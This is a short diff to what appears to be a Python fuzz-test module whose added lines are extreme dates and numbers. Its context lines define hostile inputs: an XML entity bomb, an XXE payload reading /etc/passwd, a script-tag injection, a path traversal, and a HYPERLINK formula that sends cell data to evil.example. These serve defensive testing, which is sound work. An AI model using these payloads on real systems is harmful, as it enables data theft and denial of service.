@@ -18,8 +18,10 @@ LAUGHS = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{ENTITIES}]><x>&a9
 OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
 HTML = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
-VALUES = (HTML, FORMULA, "\0", "\ud800", "9" * 5_000, "-1e400", "NaN", "../../etc/passwd", "x" * 100_000)
-JSON_VALUES = (*VALUES, None, True, 10**30, -1, float("inf"), [], {}, [[]], {"a": {"a": []}}, [None], 1.5)
+DAYS = ("0000-00-00", "99999-12-31T00:00:00Z", "9999-12-31T23:59:59-14:00")
+VALUES = (HTML, FORMULA, "\0", "\ud800", "9" * 5_000, "-1e400", "NaN", "../../etc/passwd", "x" * 100_000, *DAYS)
+NUMBERS = (10**30, 10**400, 1e308, -1e308, -1, float("inf"), 1.5)
+JSON_VALUES = (*VALUES, *NUMBERS, None, True, [], {}, [[]], {"a": {"a": []}}, [None])
 
 
 def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
